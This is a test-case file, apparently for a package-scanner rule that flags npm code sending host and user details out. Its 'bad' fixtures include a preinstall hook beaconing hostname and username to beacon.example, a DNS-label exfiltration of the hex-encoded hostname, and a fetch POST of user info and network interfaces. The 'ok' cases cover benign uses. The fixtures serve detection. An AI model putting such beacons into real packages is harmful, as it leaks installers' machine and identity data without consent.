import { defineCases } from '../../src/rule.ts';

export default defineCases({
  bad: [
    {
      name: 'a beacon at preinstall',
      manifest: { scripts: { preinstall: 'node b.js' } },
      files: {
        'index.js': '',
        'b.js':
          "const os = require('os'), https = require('https');\nhttps.get('https://beacon.example/?h=' + os.hostname() + '&u=' + os.userInfo().username)",
      },
    },
    {
      name: 'in a DNS label, when loaded',
      code: "const { hostname } = require('node:os');\nrequire('dns').lookup(Buffer.from(hostname()).toString('hex') + '.beacon.example', () => {})",
    },
    {
      name: 'as JSON',
      code: "import os from 'node:os';\nconst who = { ...os.userInfo(), nets: os.networkInterfaces() };\nawait fetch('https://beacon.example', { method: 'POST', body: JSON.stringify(who) });",
      manifest: { type: 'module' },
    },
  ],
  ok: [
    {
      name: 'a log line with the host name',
      code: "const os = require('os'); exports.line = (text) => `${os.hostname()} ${text}`",
    },
    {
      name: 'telemetry that the caller switches on',
      code: "const os = require('os'); exports.report = () => fetch('https://telemetry.example', { body: os.hostname() })",
    },
    {
      name: 'the number of processors',
      code: "const os = require('os'); fetch('https://status.example/?cpus=' + os.cpus().length)",
    },
  ],
});
